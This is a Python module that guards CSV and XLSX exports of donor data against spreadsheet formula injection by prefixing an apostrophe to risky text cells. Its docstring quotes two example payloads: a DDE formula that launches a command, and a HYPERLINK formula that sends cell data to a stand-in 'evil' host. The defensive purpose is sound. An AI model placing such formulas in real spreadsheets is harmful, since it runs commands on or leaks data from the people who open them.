"""Cells that a spreadsheet would run: neutralising "formula injection" in CSV and XLSX exports.

A donor may type `=cmd|' /C calc'!A0` or `=HYPERLINK("http://evil/?"&A1, "x")` as their name.
Stored and shown on a web page it is harmless text (the templates escape it), but a CSV or XLSX
file opened in Excel or LibreOffice treats a cell that starts with `=`, `+`, `-` or `@` (or a
tab or carriage return followed by one) as a formula. OWASP's advice, followed here: prefix such
a text cell with an apostrophe, which spreadsheets show as plain text. Numbers stay numbers
(a refund of -500000 is an int, not text). Exporters call `spreadsheet_safe` on every text cell
that came from people: names, addresses, messages, memos they typed.

Not for files whose bytes are checked elsewhere (the ledger export carries the exact memo its
hash covers; its memos start with a fixed prefix such as "Thu ủng hộ").
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")  # and full-width forms


def spreadsheet_safe(value):
    """`value` unchanged, unless it is text a spreadsheet would evaluate: then "'" + value."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def spreadsheet_safe_row(row):
    return [spreadsheet_safe(value) for value in row]
